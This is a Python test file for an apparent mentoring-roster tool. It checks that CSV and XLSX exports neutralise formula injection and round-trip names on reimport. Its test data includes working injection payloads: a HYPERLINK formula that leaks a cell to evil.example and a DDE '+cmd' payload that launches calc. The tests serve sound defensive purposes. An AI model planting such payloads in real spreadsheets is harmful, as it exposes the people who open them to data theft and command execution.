"""Exports cannot attack the reader: formula-like text is written as text and reads back."""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import pytest

from mentordesk.core.enums import Role
from mentordesk.core.participant import ParticipantInput
from mentordesk.db.engine import Database
from mentordesk.importing.formulas import escape_csv, unescape_csv
from mentordesk.services.matching import rotation_csv
from mentordesk.services.programs.catalog import ProgramService
from mentordesk.services.roster.participant_store import write_participant
from mentordesk.services.roster.read import read_program_people
from mentordesk.services.roster.spreadsheet import SpreadsheetService

NASTY = [
    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "'Brien",
    "'=already quoted",
    "Plain Name",
]


@pytest.fixture
def program(db: Database) -> str:
    program, _ = ProgramService(db).create("Spring")
    with db.begin() as session:
        for number, name in enumerate(NASTY):
            write_participant(
                session,
                program.id,
                ParticipantInput(
                    full_name=name,
                    email=f"p{number}@example.org",
                    role=Role.MENTEE,
                    notes="=1+1" if number == 0 else "",
                ),
            )
    return program.name


@pytest.mark.parametrize("value", [*NASTY, "\tTabbed", "\rReturn", "", "x"])
def test_escape_round_trip(value: str) -> None:
    """Unescaping an escaped cell gives the exact value back."""
    assert unescape_csv(escape_csv(value)) == value


def test_csv_cells_start_as_text(db: Database, program: str, tmp_path: Path) -> None:
    """No CSV cell starts with =, +, -, @: a spreadsheet shows them as text."""
    path = tmp_path / "roster.csv"
    SpreadsheetService(db).export(program, path, include_sensitive=True)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        cells = [cell for row in csv.reader(handle) for cell in row]
    assert cells, "the export is empty"
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert '\'=HYPERLINK("http://evil.example/?leak="&A2,"Click")' in cells
    assert "''Brien" in cells


def test_xlsx_holds_no_formula(db: Database, program: str, tmp_path: Path) -> None:
    """The XLSX stores formula-like names as text cells with Excel's quote prefix."""
    path = tmp_path / "roster.xlsx"
    SpreadsheetService(db).export(program, path, include_sensitive=True)
    sheet = openpyxl.load_workbook(path).worksheets[0]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c for c in cells if c.data_type == "f"]
    hyperlink = next(c for c in cells if str(c.value).startswith("=HYPERLINK"))
    assert hyperlink.data_type == "s"
    assert hyperlink.quotePrefix


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_reimport_gives_back_the_same_names(
    db: Database, program: str, tmp_path: Path, suffix: str
) -> None:
    """An escaped export imported into a new file gives back exactly the same names."""
    path = tmp_path / f"roster{suffix}"
    SpreadsheetService(db).export(program, path, include_sensitive=True)
    copy = Database(tmp_path / "copy.sqlite")
    try:
        service = SpreadsheetService(copy)
        plan = service.plan_file(path, "Copy")
        assert not plan.errors, plan.errors
        service.apply(plan)
        with copy.read() as session:
            people = read_program_people(session, ProgramService(copy).by_name("Copy").id)
        assert sorted(p.full_name for p in people) == sorted(NASTY)
        assert "=1+1" in {p.notes for p in people}
    finally:
        copy.close()


def test_rotation_csv_escapes_names() -> None:
    """The rotation CSV escapes names too."""
    from mentordesk.services.matching.rows import RotationResult, SeatRow

    rotation = RotationResult(
        rounds=1,
        seats=(SeatRow(1, 1, "=evil()", 2, "@SUM(1)", 80.0),),
        mentors=((1, "=evil()"),),
        sitting_out=((1, ("+cmd",)),),
    )
    rows = list(csv.reader(rotation_csv(rotation).splitlines()))
    assert rows[1][2:4] == ["'=evil()", "'@SUM(1)"]
    assert rows[2][3] == "'+cmd"
